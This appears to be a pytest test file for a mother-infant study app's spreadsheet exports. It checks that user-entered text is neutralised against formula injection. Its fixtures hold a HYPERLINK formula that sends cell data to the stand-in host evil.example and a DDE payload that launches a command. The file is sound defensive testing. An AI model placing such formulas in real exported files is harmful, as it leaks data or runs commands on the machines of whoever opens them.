"""Spreadsheet formula injection: text typed by staff or mothers never becomes a live
formula in a file meant for a spreadsheet."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from nurture.capture import domain as capture
from nurture.capture.enums import Timepoint
from nurture.exports.bundle import export_bundle
from nurture.exports.cells import neutralise
from nurture.exports.wide import export_wide
from nurture.participants import domain as participants
from nurture.participants.enums import EnrollmentStatus

COHORT = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
REASON = "+1-555-0100 call her"
ANSWER = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2", "'-2"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Cohort 1", "Cohort 1"), ("", ""), (3, 3), (-2.5, -2.5), (None, None),
])
def test_text_that_would_start_a_formula_gets_an_apostrophe(value, expected):
    assert neutralise(value) == expected


@pytest.fixture
def poisoned(world, settings, tmp_path):
    settings.VAR_DIR = tmp_path / "var"
    world.cohort1.name = COHORT
    world.cohort1.save()
    post = capture.schedule_assessment(world.coordinator, world.dyad1, Timepoint.POST)
    capture.save_answers(post, "feedback", {"open_helpful": ANSWER})
    participants.change_status(world.coordinator, world.dyad2, EnrollmentStatus.WITHDRAWN,
                               effective_on=world.dyad2.enrolled_on, reason=REASON)
    return world


def test_the_excel_workbook_holds_no_formula_and_includes_open_answers_with_free_text(poisoned, tmp_path):
    path = tmp_path / "wide.xlsx"
    export_wide(poisoned.coordinator, poisoned.study, {"xlsx": path}, deidentified=False, free_text=True)
    wb = load_workbook(path)
    cells = [c for sheet in wb for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    assert "'" + COHORT in values and COHORT not in values
    assert "'" + ANSWER in values, "the open answer is in the wide file, neutralised"
    header = [c.value for c in wb["Data"][1]]
    assert any(name.startswith("feedback_open_helpful") for name in header)


def test_without_free_text_the_wide_file_has_no_open_answers(poisoned, tmp_path):
    path = tmp_path / "wide.xlsx"
    export_wide(poisoned.coordinator, poisoned.study, {"xlsx": path}, deidentified=False)
    values = {c.value for sheet in load_workbook(path) for row in sheet.iter_rows() for c in row}
    assert not any(isinstance(v, str) and "SUM(1+1)" in v for v in values)


def test_bundle_text_columns_are_neutralised(poisoned, tmp_path):
    path, _ = export_bundle(poisoned.coordinator, poisoned.study, tmp_path / "b.zip", deidentified=False,
                            as_zip=True, free_text=True)
    with zipfile.ZipFile(path) as z:
        people = list(csv.DictReader(io.StringIO(z.read("participants.csv").decode())))
        feedback = list(csv.DictReader(io.StringIO(z.read("feedback.csv").decode())))
        sessions = list(csv.DictReader(io.StringIO(z.read("sessions.csv").decode())))
    assert {p["cohort"] for p in people} >= {"'" + COHORT}
    assert "'" + REASON in {p["withdrawal_reason"] for p in people}
    assert "'" + COHORT in {s["cohort"] for s in sessions}
    assert [f["text"] for f in feedback] == ["'" + ANSWER]
    for p in people:  # numbers stay numbers
        assert not p["mother_age"].startswith("'")
